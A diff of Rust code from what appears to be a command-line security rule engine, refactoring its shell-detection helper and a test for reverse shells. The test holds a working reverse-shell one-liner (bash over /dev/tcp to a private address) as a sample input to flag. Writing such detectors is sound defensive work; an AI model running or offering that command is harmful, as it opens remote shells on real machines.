@@ -150,7 +150,7 @@ fn reverse_shell(call: &Call) -> bool {
 /// A command line whose program is a shell or an interpreter (`/bin/sh -i`, `bash`, `python3`).
 fn runs_shell(line: &str) -> bool {
     let program = line.split_whitespace().next().unwrap_or_default();
-    let base = program.rsplit('/').next().unwrap_or(program);
+    let base = crate::shell::base_name(program);
     SHELLS.contains(&base) || is_interpreter(base)
 }
 
@@ -378,10 +378,11 @@ mod tests {
 
     #[test]
     fn shells_on_a_socket() {
-        use crate::rules::{PackSettings, evaluate};
+        use crate::rules::PackSettings;
+        use crate::rules::testing::evaluate_in;
         use crate::shell::{Dialect, analyse};
         let rule = |line: &str| {
-            evaluate(&analyse(line, Dialect::Posix), &ctx(), &PackSettings::default()).map(|f| f.rule)
+            evaluate_in(&analyse(line, Dialect::Posix), &ctx(), &PackSettings::default()).map(|f| f.rule)
         };
         for line in [
             "bash -i >& /dev/tcp/10.0.0.1/9001 0>&1",
